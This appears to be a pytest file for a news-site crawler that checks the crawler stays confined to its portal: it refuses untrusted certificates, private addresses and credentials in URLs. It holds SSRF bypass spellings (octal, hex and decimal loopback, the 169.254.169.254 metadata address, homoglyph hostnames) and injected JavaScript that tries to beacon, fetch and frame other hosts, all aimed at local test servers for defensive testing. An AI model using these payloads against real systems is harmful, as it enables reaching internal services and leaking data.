"""Nothing leaves the portal: no redirect, no name that leads inside, no browser, no false certificate; no secret is told."""

from __future__ import annotations

import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest
from crawl_fixtures import ROOT, SamplePortal, a_desk, expected
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st

from caritau_crawler.middlewares.addresses import is_public
from caritau_crawler.rendering.browser import find_browser
from caritau_crawler.site import Site

BODY = "Warga menunggu bantuan di balai desa sejak pagi, kata kepala desa itu pada Senin. " * 20
ARTICLE = """<!doctype html><html><head><title>Warga Menunggu Bantuan</title><meta property="og:type" content="article">
<meta property="article:published_time" content="2026-11-20T08:15:00+07:00"></head><body><h1>Warga Menunggu Bantuan</h1>
<article class="post-content"></article><script>%s
document.querySelector('article').innerHTML = '<p>%s</p>';</script></body></html>"""
Answer = tuple[int, dict[str, str], bytes]


@contextmanager
def served(answer: Callable[[str], Answer], tls: ssl.SSLContext | None = None) -> Iterator[tuple[int, list[str]]]:
    """Serve on loopback with a function from path to answer; yield the port and the paths asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            status, headers, body = answer(self.path)
            self.send_response(status)
            for name, value in {"Content-Type": "text/html", "Content-Length": str(len(body)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.handle_error = lambda *args: None  # type: ignore[method-assign]
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def self_signed(folder: Path) -> ssl.SSLContext:
    """Return a server's context with a certificate that nobody vouches for."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ip_address("127.0.0.1"))]), critical=False)
        .sign(key, hashes.SHA256())
    )
    file = folder / "server.pem"
    file.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
        + certificate.public_bytes(serialization.Encoding.PEM)
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    return context


@pytest.fixture
def desk(mongo_uri, tmp_path):
    with a_desk(mongo_uri, tmp_path / "home") as opened:
        yield opened


@pytest.mark.mongo
def test_a_certificate_that_nobody_vouches_for_is_refused_and_named(desk, tmp_path):
    with served(lambda path: (200, {}, b"<html></html>"), self_signed(tmp_path)) as (port, asked):
        answer = desk.crawl(f"https://127.0.0.1:{port}")

    assert answer.code == 1
    assert asked == []
    said = " ".join(error["sample"] for error in desk.last_run["errors"])
    assert "certificate" in said
    assert "not to be trusted" in said


@pytest.mark.mongo
def test_a_portals_name_that_leads_to_a_private_address_is_not_followed(desk):
    program = """
from scrapy.resolver import dnscache
dnscache["caritau.com"] = "10.1.2.3"
from caritau_crawler.cli.crawl import run_crawl
run = run_crawl(portal="caritau", urls=["https://caritau.com/post/a"], quiet=True).run
print(run.outcome, run.dropped_by, run.http_status, [one.detail for one in run.refused])
"""
    child = subprocess.run(
        [sys.executable, "-c", program], env=desk.environment(), cwd=ROOT, capture_output=True, text=True, timeout=60
    )

    assert child.returncode == 0, child.stderr
    assert child.stdout.startswith("failed {'led-off-site': 1} {}"), child.stdout
    assert "caritau.com is at 10.1.2.3, which is no public address" in child.stdout


@pytest.mark.parametrize(
    "address",
    [
        "127.0.0.1", "127.8.9.1", "10.0.0.1", "172.16.3.4", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0",
        "224.0.0.1", "255.255.255.255", "192.0.2.1", "198.18.0.1", "::1", "::", "fe80::1", "fc00::1", "fd12::9",
        "::ffff:127.0.0.1", "::ffff:169.254.169.254", "2002:7f00:0001::", "ff02::1", "2130706433", "kota", "",
    ],
)  # fmt: skip
def test_no_private_address_is_public_in_any_spelling(address):
    assert not is_public(address)


@given(st.ip_addresses())
def test_what_is_called_public_is_global(address):
    if is_public(str(address)):
        assert address.is_global


@pytest.mark.parametrize(
    ("url", "why"),
    [
        ("http://0177.0.0.1/", "private-address"), ("http://0x7f.0.0.1/", "private-address"),
        ("http://017700000001/", "private-address"), ("http://127.0.0.1./", "private-address"),
        ("http://[::ffff:7f00:1]/", "private-address"), ("http://[fe80::1%25eth0]/", "malformed"),
        ("http://caritau.com:22/", "other-host"), ("https://caritau.com@10.0.0.1/", "userinfo"),
        ("https://caritau.com\\@lain.example/", "malformed"), ("https://сaritau.com/", "other-host"),
        ("https://caritau.com。lain.example/", "other-host"), ("javascript:alert(1)", "other-scheme"),
        ("//lain.example/a", "malformed"), ("https:///a", "malformed"), ("ws://caritau.com/", "other-scheme"),
    ],
)  # fmt: skip
def test_no_spelling_of_another_place_passes_for_the_portal(url, why):
    from caritau_crawler.portals import load_portal

    site = Site(load_portal("caritau"))

    assert site.refusal(url) is not None
    assert site.to_fetch(url) is None
    assert site.refusal(url) == why


@pytest.mark.mongo
@pytest.mark.browser
def test_a_page_in_the_browser_reaches_nobody_but_the_portal(desk):
    if find_browser() is None:
        pytest.skip("needs a Chromium")
    with ExitStack() as stack:
        other, reached = stack.enter_context(served(lambda path: (200, {}, b"rahasia")))
        escapes = "".join(
            f"""
fetch('http://{host}:{other}/fetch').catch(() => 0);
fetch('/out/{host}').catch(() => 0);
navigator.sendBeacon('http://{host}:{other}/beacon', 'x');
for (const tag of ['iframe', 'img', 'script']) {{
  const made = document.createElement(tag); made.src = 'http://{host}:{other}/' + tag; document.body.append(made);
}}
const frame{number} = document.createElement('iframe'); frame{number}.src = '/out/{host}'; document.body.append(frame{number});
try {{ new WebSocket('ws://{host}:{other}/socket'); }} catch (error) {{ }}"""
            for number, host in enumerate(("localhost", "lain.example", "169.254.169.254", "10.0.0.1", "2130706433"))
        )

        def portal(path: str) -> Answer:
            if path.startswith("/out/"):
                return 302, {"Location": f"http://{path.rpartition('/')[2]}:{other}/redirect"}, b""
            # The first visit is Scrapy's, the second the browser's.
            if path == "/post/pergi" and asked.count(path) > 1:
                return 302, {"Location": f"http://localhost:{other}/page"}, b""
            if path.startswith("/post/"):
                return 200, {}, (ARTICLE % (escapes, BODY)).encode()
            return 404, {}, b""

        port, asked = stack.enter_context(served(portal))
        base = f"http://127.0.0.1:{port}"
        answer = desk.run(
            "crawl", "--quiet", "--base-url", base, "--url", f"{base}/post/tetap", "--url", f"{base}/post/pergi"
        )

    assert reached == [], answer
    assert "/out/localhost" in asked, "the page's own scripts ran"
    assert set(desk.articles()) == {"/post/tetap"}
    assert desk.pages()["/post/pergi"]["state"] in ("due", "failed")


@pytest.mark.mongo
def test_no_secret_is_in_a_log_a_report_or_a_run_document(desk):
    """Addresses with passwords come from outside too: a redirect is enough."""
    with SamplePortal(articles=20) as site:
        from crawl_fixtures import Faults

        target = "https://redaksi:rahasia-sekali@lain.example/post/a?token=kunci-rumah"
        site.set_faults(Faults(redirect=target, only="/post/", share=0.5))
        uri = desk.uri.replace("?", "?appName=caritau&", 1) if "?" in desk.uri else desk.uri
        answer = desk.crawl(site, "--format", "json", CARITAU_BROWSER="/bin/false", MONGO_URI=uri)

        assert answer.code in (0, 1, 3)
        assert len(desk.articles()) < len(expected(site))
    kept = [document for name in ("runs", "pages", "quarantine") for document in desk.database[name].find()]
    everything = answer.stdout + answer.stderr + desk.log_text() + repr(kept)
    assert "rahasia-sekali" not in everything
    assert "kunci-rumah" not in everything
